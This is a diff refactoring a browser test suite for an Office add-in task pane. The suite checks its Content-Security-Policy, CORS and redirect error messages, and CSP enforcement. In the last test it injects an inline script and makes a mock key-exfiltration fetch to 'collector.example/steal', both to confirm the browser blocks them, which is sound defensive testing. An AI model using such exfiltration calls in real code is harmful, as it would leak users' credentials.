@@ -4,23 +4,11 @@ import http from "http";
 import type { AddressInfo } from "net";
 import os from "os";
 import path from "path";
-import { startSandbox, type RunningSandbox } from "../../src/sandbox/server";
 import { DEMO_API_KEY } from "../../src/sandbox/demo";
 import { monthLabel, monthOf } from "../../src/monthend/month";
 import { describeWithBrowser } from "./browser";
 import { serveDirectory, type StaticServer } from "./static-server";
-import {
-  axeViolations,
-  connect,
-  cspViolations,
-  select,
-  startPaneSession,
-  waitReady,
-  waitRowsFinal,
-  type PanePage,
-  type PaneSession,
-  PREVIEW_DONE,
-} from "./pane-driver";
+import { axeViolations, connect, cspViolations, type PanePage, paneWithSandbox, select, waitRowsFinal, PREVIEW_DONE } from "./pane-driver";
 
 jest.setTimeout(120_000);
 
@@ -39,24 +27,10 @@ async function policyOf(pane: PanePage): Promise<Record<string, string[]>> {
 }
 
 describeWithBrowser("the task pane under its Content-Security-Policy", (chromiumPath) => {
-  let sandbox: RunningSandbox;
-  let session: PaneSession;
-  let pane: PanePage;
-
-  beforeAll(async () => {
-    sandbox = await startSandbox({ port: 0, http: true, seed: 11, fillMs: 200 });
-    session = await startPaneSession(chromiumPath());
-    pane = await session.open({ query: "harness=memory&theme=dark" });
-    await waitReady(pane.page);
-  }, 240_000);
-
-  afterAll(async () => {
-    await session?.close();
-    await sandbox?.close();
-  });
+  const world = paneWithSandbox(chromiumPath, { seed: 11, open: { query: "harness=memory&theme=dark" } });
 
   test("the page carries the policy Office.js lives with, and no inline script of ours", async () => {
-    const policy = await policyOf(pane);
+    const policy = await policyOf(world.pane);
     expect(policy["script-src"]).toEqual(["'self'", "https://appsforoffice.microsoft.com", "https://ajax.aspnetcdn.com"]);
     expect(policy["style-src"]).toEqual(["'self'", "'unsafe-inline'"]);
     // The test build reaches the local sandbox on any port; nothing else beyond the page's own origin.
@@ -71,17 +45,17 @@ describeWithBrowser("the task pane under its Content-Security-Policy", (chromium
     expect(Object.keys(policy)).not.toEqual(expect.arrayContaining(["sandbox"]));
     expect(Object.keys(policy)).not.toContain("frame-ancestors");
     expect(Object.keys(policy)).not.toContain("sandbox");
-    const inline = await pane.page.$$eval("script:not([src])", (scripts) => scripts.length);
+    const inline = await world.pane.page.$$eval("script:not([src])", (scripts) => scripts.length);
     expect(inline).toBe(0);
     // The package's Office.js loaded under it (served in place of the CDN) and said where it runs.
-    expect(await pane.page.evaluate(() => typeof (window as unknown as { Office?: { onReady?: unknown } }).Office?.onReady)).toBe(
+    expect(await world.pane.page.evaluate(() => typeof (window as unknown as { Office?: { onReady?: unknown } }).Office?.onReady)).toBe(
       "function",
     );
   });
 
   test("the full flow — connect, overview, read, preview, confirm, fills, month end — reports no violation", async () => {
-    const { page } = pane;
-    await connect(page, DEMO_API_KEY, sandbox.baseUrl);
+    const { page } = world.pane;
+    await connect(page, DEMO_API_KEY, world.sandbox.baseUrl);
     await page.waitForSelector("svg.sparkline[data-points]:not([data-points='0'])", { timeout: 10_000 });
     await select(page, "A2:E3");
     await page.locator("#read-selection").click();
@@ -106,8 +80,8 @@ describeWithBrowser("the task pane under its Content-Security-Policy", (chromium
     await page.locator("#forget").click();
     await page.waitForFunction(() => /Not connected/.test(document.getElementById("connection-status")?.textContent ?? ""));
 
-    expect(await cspViolations(pane)).toEqual([]);
-    expect(pane.console.filter((line) => /^(error|pageerror)/.test(line))).toEqual([]);
+    expect(await cspViolations(world.pane)).toEqual([]);
+    expect(world.pane.console.filter((line) => /^(error|pageerror)/.test(line))).toEqual([]);
   });
 
   describe("a service that does not allow the add-in's origin (CORS)", () => {
@@ -126,17 +100,17 @@ describeWithBrowser("the task pane under its Content-Security-Policy", (chromium
     });
 
     test("Connect says the browser blocked the answer and names the origin to allow, not a bare network_error", async () => {
-      const { page } = pane;
+      const { page } = world.pane;
       await page.locator("#api-key").fill(DEMO_API_KEY);
       await page.locator("#base-url input").fill(`${noCors.origin}/v2`);
       await page.locator("#connect").click();
       await page.waitForSelector("#connection-error:not([hidden])", { timeout: 30_000 });
       const text = (await page.locator("#connection-error").textContent()) ?? "";
       expect(text).toMatch(/^cors_blocked/);
-      expect(text).toContain(`does not allow requests from this add-in's origin, ${session.server.origin}`);
-      expect(text).toContain(`Ask the service's operators to allow the origin ${session.server.origin}`);
+      expect(text).toContain(`does not allow requests from this add-in's origin, ${world.session.server.origin}`);
+      expect(text).toContain(`Ask the service's operators to allow the origin ${world.session.server.origin}`);
       expect(text).not.toContain(DEMO_API_KEY);
-      expect(await cspViolations(pane)).toEqual([]);
+      expect(await cspViolations(world.pane)).toEqual([]);
     });
   });
 
@@ -163,7 +137,7 @@ describeWithBrowser("the task pane under its Content-Security-Policy", (chromium
     });
 
     test("Connect says the service redirected (never followed), not that the browser blocked it for CORS", async () => {
-      const { page } = pane;
+      const { page } = world.pane;
       await page.locator("#api-key").fill(DEMO_API_KEY);
       await page.locator("#base-url input").fill(`${origin}/v2`);
       await page.locator("#connect").click();
@@ -176,13 +150,13 @@ describeWithBrowser("the task pane under its Content-Security-Policy", (chromium
       // Nothing followed the redirect, and the key went nowhere but the base URL.
       expect(seen.filter((r) => r.path.startsWith("/elsewhere"))).toEqual([]);
       expect([...new Set(seen.filter((r) => r.withKey).map((r) => r.path))]).toEqual(["/v2/account"]);
-      expect(await cspViolations(pane)).toEqual([]);
+      expect(await cspViolations(world.pane)).toEqual([]);
     });
   });
 
   describe("the policy is enforced (these provoke violations on purpose, so they run last)", () => {
     test("an injected inline script does not run, and the violation is reported", async () => {
-      const { page } = pane;
+      const { page } = world.pane;
       await page.evaluate(() => {
         const script = document.createElement("script");
         script.textContent = "window.__inlineRan = true;";
@@ -190,11 +164,11 @@ describeWithBrowser("the task pane under its Content-Security-Policy", (chromium
       });
       await page.waitForFunction(() => ((window as unknown as { __cspViolations: unknown[] }).__cspViolations ?? []).length > 0);
       expect(await page.evaluate(() => (window as unknown as { __inlineRan?: boolean }).__inlineRan)).toBeUndefined();
-      expect(await cspViolations(pane)).toEqual(expect.arrayContaining([expect.objectContaining({ directive: "script-src-elem" })]));
+      expect(await cspViolations(world.pane)).toEqual(expect.arrayContaining([expect.objectContaining({ directive: "script-src-elem" })]));
     });
 
     test("a stolen key cannot leave: a fetch to a foreign origin is refused by the browser before it is sent", async () => {
-      const { page } = pane;
+      const { page } = world.pane;
       const outcome = await page.evaluate(() =>
         fetch("https://collector.example/steal?k=x").then(
           () => "sent",
@@ -202,7 +176,7 @@ describeWithBrowser("the task pane under its Content-Security-Policy", (chromium
         ),
       );
       expect(outcome).toMatch(/^refused/);
-      expect(await cspViolations(pane)).toEqual(
+      expect(await cspViolations(world.pane)).toEqual(
         expect.arrayContaining([
           expect.objectContaining({ directive: "connect-src", blocked: expect.stringContaining("collector.example") }),
         ]),
